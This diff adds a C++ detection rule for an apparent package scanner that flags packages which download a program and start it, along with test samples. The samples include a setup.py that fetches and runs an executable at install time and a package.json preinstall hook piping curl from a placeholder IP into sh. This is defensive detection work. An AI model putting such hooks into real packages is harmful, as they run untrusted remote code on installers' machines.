@@ -1,0 +1,110 @@
+#include "rules/conditions.h"
+#include "rules/rule.h"
+
+namespace assay::rules {
+namespace {
+
+bool is_python(const Facts& facts, const Action& action) {
+  return facts.file(action.where).kind == FileKind::python;
+}
+
+Severity severity_of(const Facts& facts, const Action& action) {
+  const Destination origin = origin_near(facts, action);
+  const bool is_shady = is_shady_origin(origin.kind);
+  const bool is_fixed = origin.host_is_constant && origin.kind != HostKind::local;
+  if (!runs_uncalled(action)) {
+    if (is_shady) return Severity::high;
+    return is_fixed && action.hidden ? Severity::high : Severity::info;
+  }
+  if (is_shady || action.hidden) return Severity::critical;
+  // Building from an sdist never starts a download; importing a module neither.
+  if (is_python(facts, action)) return is_fixed ? Severity::critical : Severity::high;
+  if (at_install(action)) {
+    // Installers of binaries put version and platform into the address.
+    const bool is_computed = action_beside(facts, action, [](const Action& other) {
+                               return other.act == Act::fetch && !other.target_complete;
+                             }) != nullptr;
+    return is_computed ? Severity::medium : Severity::high;
+  }
+  return is_fixed ? Severity::high : Severity::medium;
+}
+
+void check(const Facts& facts, Findings& findings) {
+  for (const Action& action : facts.actions) {
+    if (!is_process(action.act) || !is_shipped(action)) continue;
+    if (!(action.target_from | action.data).any(foreign)) continue;
+    const Severity severity = severity_of(facts, action);
+    if (severity == Severity::info) continue;
+    findings.add(severity, action.where,
+                 sentence("starts what it downloaded, \"" + shown(action.target) + "\",", action),
+                 action.steps);
+  }
+}
+
+}  // namespace
+
+extern constinit const Rule runs_downloaded_file = {
+    .id = "runs-downloaded-file",
+    .title = "The package downloads a program and starts it",
+    .why =
+        "The download is not part of what was reviewed, and can differ from one hour and one "
+        "victim to the next.",
+    .harmless_when =
+        "An installer fetches the binary of its own release for this platform, from "
+        "its own project, and checks it against a hash in the package.",
+    .severity = Severity::critical,
+    .check = check,
+};
+
+#ifdef RULE_SAMPLES
+constexpr Sample samples[] = {
+    {.name = "a setup script downloads and starts a program",
+     .expect = "setup.py:7",
+     .bundle = R"(==> PKG-INFO
+Metadata-Version: 2.1
+Name: sample
+Version: 1.0.0
+==> setup.py
+import subprocess
+import urllib.request
+from setuptools import setup
+data = urllib.request.urlopen("https://downloads.example.test/tool.exe").read()
+with open("tool.exe", "wb") as file:
+    file.write(data)
+subprocess.Popen(["tool.exe"])
+setup(name="sample", version="1.0.0")
+)"},
+    {.name = "a hook pipes a download into a shell",
+     .expect = "package.json:1",
+     .bundle = R"(==> package.json
+{"name": "sample", "version": "1.0.0", "scripts": {"preinstall": "curl -s http://192.0.2.10/a | sh"}}
+)"},
+    {.name = "a program of the system is started", .expect = silent, .bundle = R"(==> PKG-INFO
+Metadata-Version: 2.1
+Name: sample
+Version: 1.0.0
+==> setup.py
+import subprocess
+from setuptools import setup
+version = subprocess.check_output(["git", "describe", "--tags"]).decode()
+setup(name="sample", version=version)
+)"},
+    {.name = "an updater runs when its user asks", .expect = silent, .bundle = R"(==> PKG-INFO
+Metadata-Version: 2.1
+Name: sample
+Version: 1.0.0
+==> setup.py
+from setuptools import setup
+setup(name="sample", version="1.0.0", packages=["sample"])
+==> sample/__init__.py
+import subprocess
+import urllib.request
+def update(url, path):
+    urllib.request.urlretrieve(url, path)
+    subprocess.run([path])
+)"},
+};
+extern const std::span<const Sample> runs_downloaded_file_samples = samples;
+#endif
+
+}  // namespace assay::rules
